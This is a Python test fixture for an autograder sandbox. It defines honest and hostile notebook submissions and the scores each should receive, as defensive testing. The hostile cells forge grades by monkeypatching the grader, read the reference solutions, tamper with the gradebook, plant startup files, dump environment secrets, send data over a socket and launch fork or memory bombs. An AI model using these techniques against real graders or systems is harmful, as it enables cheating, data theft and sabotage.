"""Hostile and honest submissions of a02 and what each must score: the batch tests/grader/test_grading_attacks.py
grades, and tests/grader/test_dask.py grades again on a cluster."""
from __future__ import annotations

import copy
import hashlib
import json
import os
from pathlib import Path

from autograder.course.directory import Course
from autograder.course.notebook import exercise_of
from autograder.judge.bubblewrap import UID_BASE

from support import REPO

ASSIGNMENT = NOTEBOOK = "a02_broadcasting"
SECRET = "grader-secret-6c1f0e"  # in the grader's environment; must never reach a student's page


def source() -> dict:
    return json.loads((REPO / "assignments" / "source" / ASSIGNMENT / f"{NOTEBOOK}.ipynb").read_text())


def nbgrader(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def index_of(nb: dict, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb["cells"]) if nbgrader(c).get("grade_id") == grade_id)


def code(text: str) -> dict:
    return {"cell_type": "code", "metadata": {}, "source": text, "outputs": [], "execution_count": None}


def with_cell(nb: dict, text: str, after: str | None = None) -> dict:
    """A copy of `nb` with a code cell inserted after the cell `after` (default: the import cell)."""
    nb = copy.deepcopy(nb)
    at = index_of(nb, after) + 1 if after else 2
    nb["cells"].insert(at, code(text))
    return nb


def with_answer(nb: dict, grade_id: str, text: str) -> dict:
    nb = copy.deepcopy(nb)
    nb["cells"][index_of(nb, grade_id)]["source"] = text
    return nb


def answer_of(nb: dict, grade_id: str) -> str:
    source = nb["cells"][index_of(nb, grade_id)]["source"]
    return "".join(source) if isinstance(source, list) else source


def points() -> dict[str, float]:
    """Auto-graded points per exercise, in notebook order."""
    out: dict[str, float] = {}
    for cell in source()["cells"]:
        meta = nbgrader(cell)
        if meta.get("grade") and not meta.get("solution"):
            exercise = exercise_of(meta["grade_id"])
            out[exercise] = out.get(exercise, 0) + float(meta.get("points", 0))
    return out


POINTS = points()
FULL = sum(POINTS.values())


def mul_with(body: str) -> str:
    """Mul whose backward runs `body` first, then answers correctly."""
    lines = "".join(f"        {line}\n" for line in body.split("\n"))
    return ("class Mul(Function):\n    def forward(self, x, y):\n        return x * y\n\n"
            "    def backward(self, grad):\n" + lines +
            "        x, y = self.inputs\n"
            "        return unbroadcast(grad * y, x.shape), unbroadcast(grad * x, y.shape)\n")


def submissions(course: Course, released: dict, listener_port: int) -> dict[str, tuple[dict | str, float]]:
    """student -> (notebook, expected auto-graded score)."""
    ref, empty = source(), released
    course_root, repo = str(course.root), str(REPO)
    above_pow = sum(p for e, p in POINTS.items() if list(POINTS).index(e) <= list(POINTS).index("a02-pow-scalar"))
    s: dict[str, tuple[dict | str, float]] = {}

    # -- controls ---------------------------------------------------------------------------------
    s["alice"] = (ref, FULL)
    s["frank"] = (empty, 0)
    s["pat"] = (with_answer(ref, "a02-mul", mul_with("return grad, grad")), FULL - POINTS["a02-mul"])

    # -- the verdict forged from inside the student's process -------------------------------------
    s["atk-patch-catalogue"] = (with_cell(empty, "import autograder.course.catalogue as h\n"
                                                 "h.graded = lambda *a, **k: (lambda run: None)"), 0)
    s["atk-patch-numpy"] = (with_cell(empty, "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
                                             "np.testing.assert_allclose = lambda *a, **k: None"), 0)
    s["atk-input-transformer"] = (with_cell(empty, "get_ipython().input_transformers_cleanup.append("
                                                   "lambda lines: ['pass\\n'])"), 0)
    s["atk-pre-run-hook"] = (with_cell(empty, "get_ipython().events.register('pre_run_cell', lambda *a: None)"), 0)
    s["atk-do-execute"] = (with_cell(empty, "import ipykernel.ipkernel as k\n"
                                            "k.IPythonKernel.do_execute = lambda *a, **kw: {'status': 'ok'}"), 0)
    s["atk-frame-walk"] = (with_answer(empty, "a02-mul", mul_with(
        "import inspect\n"
        "for frame in inspect.stack():\n"
        "    for value in list(frame.frame.f_locals.values()):\n"
        "        if isinstance(value, type) and value.__name__ == 'Mul' and value is not type(self):\n"
        "            return value.backward(self, grad)\n"
        "raise RuntimeError('no reference found')")), 0)
    s["atk-fake-outputs"] = (_with_fake_outputs(empty), 0)
    s["atk-extra-grade-cell"] = (_with_extra_grade_cell(empty), 0)
    s["atk-test-cells-emptied"] = (_with_test_cells(empty, "pass"), 0)
    s["atk-forged-result"] = (with_cell(empty, "import json, os\nfor p in ['result.json', '/tmp/result.json', "
                                               "'../result.json']:\n    try:\n        json.dump({'success': True, "
                                               "'score': 35}, open(p, 'w'))\n    except OSError:\n        pass\n"
                                               "os._exit(0)"), 0)

    # -- the reference reached ---------------------------------------------------------------------
    s["atk-import-solutions"] = (with_answer(empty, "a02-mul", "from solutions.ops.elementwise import Mul"), 0)
    s["atk-read-solutions"] = (with_answer(empty, "a02-mul", f"exec(open({repo!r} + '/solutions/ops/elementwise.py')"
                                                             ".read())"), 0)
    s["atk-kit-source"] = (with_answer(empty, "a02-mul", "import inspect\n"
                                                         "import coursekit.engine.ops.elementwise as E\n"
                                                         "exec(inspect.getsource(E.Mul))"), 0)
    s["atk-kit-object"] = (with_answer(empty, "a02-mul", "import coursekit.engine.ops.elementwise as E\n"
                                                         "Mul = E.Mul"), 0)

    # -- the grader's machine: files, processes, network ------------------------------------------
    s["atk-proc-cmdline"] = (with_cell(empty, "import os\nfound = []\nfor pid in os.listdir('/proc'):\n    try:\n"
                                              "        found.append(open(f'/proc/{pid}/cmdline').read())\n"
                                              "    except OSError:\n        pass\n"
                                              "assert not any('--course' in c for c in found)"), 0)
    s["atk-copy-classmate"] = (with_cell(empty, f"exec(''.join(__import__('json').load(open({course_root!r} + "
                                                f"'/submitted/alice/{ASSIGNMENT}/{NOTEBOOK}.ipynb'))['cells'][3]"
                                                "['source']))"), 0)
    s["atk-gradebook"] = (with_cell(empty, f"import sqlite3\ndb = sqlite3.connect({course_root!r} + '/gradebook.db')\n"
                                           "db.execute('update grade set auto_score = 0')\ndb.commit()"), 0)
    s["atk-daemon"] = (with_cell(empty, "import os, time, sqlite3\nif os.fork() == 0:\n    os.setsid()\n"
                                        "    if os.fork() == 0:\n        time.sleep(3)\n        try:\n"
                                        f"            sqlite3.connect({course_root!r} + '/gradebook.db').execute("
                                        "'delete from grade')\n        finally:\n            os._exit(0)\n"
                                        "    os._exit(0)"), 0)
    s["atk-plant-package"] = (with_cell(empty, "import os\nfor d in ['autograder', "
                                               f"{course_root!r} + '/release/{ASSIGNMENT}/autograder']:\n    try:\n"
                                               "        os.makedirs(d, exist_ok=True)\n"
                                               "        open(d + '/__init__.py', 'w').write('check = None')\n"
                                               "    except OSError:\n        pass"), 0)
    s["atk-pth"] = (with_cell(empty, "import site, sys\nfor d in site.getsitepackages() + [sys.prefix]:\n    try:\n"
                                     "        open(d + '/zz_attack.pth', 'w').write('import os')\n"
                                     "    except OSError:\n        pass"), 0)
    s["atk-ipython-startup"] = (with_cell(empty, "import os\nfor home in [os.path.expanduser('~'), '/root']:\n"
                                                 "    d = home + '/.ipython/profile_default/startup'\n    try:\n"
                                                 "        os.makedirs(d, exist_ok=True)\n"
                                                 "        open(d + '/00-attack.py', 'w').write('1/0')\n"
                                                 "    except OSError:\n        pass"), 0)
    s["atk-edit-checks"] = (with_cell(empty, f"for p in [{repo!r} + '/solutions/ops/elementwise.py', "
                                             f"{repo!r} + '/autograder/exercises/{ASSIGNMENT}.py']:\n    try:\n"
                                             "        open(p, 'a').write('\\nraise SystemExit\\n')\n"
                                             "    except OSError:\n        pass"), 0)
    s["atk-environment"] = (with_answer(empty, "a02-mul",
                                        mul_with("import os\nraise ValueError(str(dict(os.environ)))")), 0)
    s["atk-network"] = (with_cell(empty, f"import socket\ns = socket.create_connection(('127.0.0.1', {listener_port}), "
                                         "timeout=1)\ns.sendall(b'stolen')"), 0)
    s["atk-kill-init"] = (with_answer(ref, "a02-mul", mul_with("import os, signal\nos.kill(1, signal.SIGKILL)")),
                          FULL - POINTS["a02-mul"])

    # -- robustness: deaths, hangs, bombs, floods ---------------------------------------------------
    s["die-after-pow"] = (with_cell(ref, "import os\nos._exit(0)", after="a02-pow-scalar-hidden"), above_pow)
    s["segfault-in-mul"] = (with_answer(ref, "a02-mul", mul_with("import ctypes\nctypes.string_at(0)")),
                            FULL - POINTS["a02-mul"])
    s["memory-bomb"] = (with_answer(ref, "a02-mul", mul_with("hog = [np.ones(2**27) for _ in range(64)]")),
                        FULL - POINTS["a02-mul"])
    s["hang"] = (with_answer(ref, "a02-mul", mul_with("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                                      "while True:\n    pass")), FULL - POINTS["a02-mul"])
    # a cell that hangs is interrupted and skipped, as nbgrader would: the rest is graded
    s["hang-scratch-cell"] = (with_cell(ref, "while True:\n    pass", after="a02-mul-hidden"), FULL)
    s["hang-answer-cell"] = (with_answer(ref, "a02-mul", answer_of(ref, "a02-mul") + "\nwhile True:\n    pass\n"),
                             FULL - POINTS["a02-mul"])
    s["fork-bomb"] = (with_cell(ref, "import os, time\nfor _ in range(10000):\n    try:\n        if os.fork() == 0:\n"
                                     "            time.sleep(600)\n            os._exit(0)\n    except OSError:\n"
                                     "        break"), FULL)
    s["recursion"] = (with_answer(ref, "a02-mul", mul_with("import sys\nsys.setrecursionlimit(10**6)\n"
                                                           "def f(n):\n    return f(n + 1) + 1\nf(0)")),
                      FULL - POINTS["a02-mul"])
    s["huge-result"] = (with_answer(ref, "a02-mul", mul_with("return np.zeros(2**24), np.zeros(2**24)")),
                        FULL - POINTS["a02-mul"])
    s["huge-message"] = (with_answer(ref, "a02-mul", mul_with("raise ValueError('x' * 10**7)")),
                         FULL - POINTS["a02-mul"])
    s["stdout-flood"] = (with_cell(ref, "import sys\nfor _ in range(100):\n    sys.stdout.write('y' * 10**6)"), FULL)
    s["stored-output-flood"] = (_with_stored_output(ref, 20 * 10**6), FULL)

    # -- fairness: honest noise costs nothing --------------------------------------------------------
    s["fd2-noise"] = (with_answer(ref, "a02-mul", mul_with("import os\nos.write(2, b'a C library says hello\\n')")),
                      FULL)
    s["warnings"] = (with_cell(ref, "import warnings\nwarnings.warn('careful')\nnp.log(np.zeros(1))"), FULL)
    s["quotes-markers"] = (_with_marker_quotes(ref), FULL)

    # -- the notebook's structure damaged: the source wins -------------------------------------------
    s["struct-duplicated"] = (_damaged(ref, "duplicate"), FULL)
    s["struct-deleted"] = (_damaged(ref, "delete"), FULL)
    s["struct-retyped"] = (_damaged(ref, "retype"), FULL)
    s["struct-points"] = (_damaged(ref, "points"), FULL)
    s["struct-relabelled"] = (_damaged(ref, "relabel"), FULL)
    s["unreadable"] = ("{ not json", 0)
    s["empty-object"] = ("{}", 0)

    # -- graded last, after every attack ------------------------------------------------------------
    s["zz-victim"] = (ref, FULL)
    return s


def _with_fake_outputs(nb: dict) -> dict:
    nb = copy.deepcopy(nb)
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                                "data": {"text/plain": "35"}}]
            cell["execution_count"] = 1
    return nb


def _with_extra_grade_cell(nb: dict) -> dict:
    nb = copy.deepcopy(nb)
    cell = code("pass")
    cell["metadata"]["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 100,
                                    "grade_id": "bonus", "schema_version": 3}
    nb["cells"].insert(2, cell)
    return nb


def _with_test_cells(nb: dict, text: str) -> dict:
    nb = copy.deepcopy(nb)
    for cell in nb["cells"]:
        if nbgrader(cell).get("grade") and not nbgrader(cell).get("solution"):
            cell["source"] = text
    return nb


def _with_stored_output(nb: dict, size: int) -> dict:
    nb = copy.deepcopy(nb)
    nb["cells"][1]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "z" * size}]
    return nb


def _with_marker_quotes(nb: dict) -> dict:
    nb = with_cell(nb, "# a note: ### BEGIN HIDDEN TESTS is where nbgrader hides tests\nx_note = 1")
    nb["cells"].insert(3, {"cell_type": "markdown", "metadata": {}, "source": "Quoting `### BEGIN SOLUTION` here."})
    return nb


def _damaged(nb: dict, how: str) -> dict:
    nb = copy.deepcopy(nb)
    hidden = [i for i, c in enumerate(nb["cells"]) if "-hidden" in nbgrader(c).get("grade_id", "")]
    if how == "duplicate":
        nb["cells"].insert(hidden[0] + 1, copy.deepcopy(nb["cells"][hidden[0]]))
    elif how == "delete":
        nb["cells"] = [c for i, c in enumerate(nb["cells"]) if i not in hidden]
    elif how == "retype":
        cell = nb["cells"][hidden[2]]
        cell["cell_type"] = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)
    elif how == "points":
        for i in hidden:
            nb["cells"][i]["metadata"]["nbgrader"]["points"] = 100
    elif how == "relabel":
        nbgrader(nb["cells"][hidden[1]])["grade_id"] += "-x"
    return nb


# --------------------------------------------------------------------------------------------------

def digest(paths: list[Path]) -> str:
    h = hashlib.sha256()
    for root in paths:
        for p in sorted(root.rglob("*")) if root.is_dir() else [root]:
            if p.is_file() and "__pycache__" not in p.parts:
                h.update(str(p).encode() + p.read_bytes())
    return h.hexdigest()


def listing(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")} if folder.is_dir() else set()


def orphaned_sandbox_processes() -> list[int]:
    """Sandbox processes whose grading process is gone: anything that outlived its grading.

    A sandbox runs as UID_BASE + the pid of the process that started it, so a sandbox of another
    test running at the same time (whose owner is alive) is not counted.
    """
    import time
    deadline = time.monotonic() + 5
    while True:
        found = []
        for pid in os.listdir("/proc"):
            try:
                uid = next(int(line.split()[1]) for line in Path(f"/proc/{pid}/status").read_text().splitlines()
                           if line.startswith("Uid:"))
            except (OSError, StopIteration, ValueError):
                continue
            if uid >= UID_BASE and not Path(f"/proc/{uid - UID_BASE}").exists():
                found.append(int(pid))
        if not found or time.monotonic() > deadline:
            return found
        time.sleep(0.2)


def auto_scores(course: Course) -> dict[str, float]:
    with course.gradebook() as gb:
        return {s.student.id: sum(g.auto_score or 0 for nb in s.notebooks for g in nb.grades
                                  if not g.name.endswith("-written"))
                for s in gb.find_assignment(ASSIGNMENT).submissions}
